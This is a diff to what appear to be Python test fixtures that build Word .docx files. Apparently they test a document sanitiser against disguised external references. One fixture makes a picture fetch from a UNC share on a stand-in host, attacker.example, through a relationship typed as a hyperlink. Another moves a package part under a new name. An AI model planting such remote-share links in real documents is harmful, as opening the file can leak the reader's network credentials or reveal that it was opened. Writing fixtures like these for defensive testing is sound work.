@@ -494,13 +494,40 @@ _PICTURE_NS = ('xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" 
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
 
 
-def hyperlink_typed_picture_docx(as_hyperlink: bool = False) -> bytes:
+def hyperlink_typed_picture_docx(as_hyperlink: bool = False,
+                                 target: str = "file:///\\\\attacker.example\\share\\logo.png") -> bytes:
     """A picture that names the file share it is fetched from through a relationship typed as a hyperlink;
-    `as_hyperlink`: the same relationship used as what it says it is, a hyperlink (the control, accepted)."""
-    rels = {"word/_rels/document.xml.rels": _relationships(
-        ("hyperlink", "file:///\\\\attacker.example\\share\\logo.png", "External"))}
+    `as_hyperlink`: the same relationship used as what it says it is, a hyperlink to `target`."""
+    rels = {"word/_rels/document.xml.rels": _relationships(("hyperlink", target, "External"))}
     if as_hyperlink:
         return _docx(f'<w:p><w:hyperlink {_PICTURE_NS} r:id="rId1"><w:r><w:t>Board paper</w:t></w:r></w:hyperlink>'
                      '</w:p>', parts=rels)
     return _docx(f'<w:p><w:r><w:drawing><a:graphic {_PICTURE_NS}><a:graphicData><a:blip r:link="rId1"/>'
                  '</a:graphicData></a:graphic></w:drawing></w:r></w:p>', parts=rels)
+
+
+def part_moved_docx(make, old: str, new: str) -> bytes:
+    """The document `make()` builds with its part `old` kept as `new`, named so by the relationship and the
+    content types that name it: Word finds parts by relationship and type, never by name."""
+    data = make()
+    out = io.BytesIO()
+    folder = old.rpartition("/")[0] + "/"
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        names = src.namelist()
+        for name in names:
+            content = src.read(name)
+            if name == old:
+                name = new
+            elif name == "[Content_Types].xml":
+                content = content.replace(f'PartName="/{old}"'.encode(), f'PartName="/{new}"'.encode())
+                if f'PartName="/{new}"'.encode() not in content:
+                    kind = old.rpartition("/")[2].removesuffix(".xml") + ("" if old.endswith("settings.xml")
+                                                                          else ".main")
+                    content = content.replace(b"</Types>", f'<Override PartName="/{new}" ContentType="application/'
+                                                           f'vnd.openxmlformats-officedocument.wordprocessingml.'
+                                                           f'{kind}+xml"/></Types>'.encode())
+            elif name.endswith(".rels"):
+                content = content.replace(f'Target="{old}"'.encode(), f'Target="/{new}"'.encode())
+                content = content.replace(f'Target="{old.removeprefix(folder)}"'.encode(), f'Target="/{new}"'.encode())
+            dst.writestr(name, content)
+    return out.getvalue()
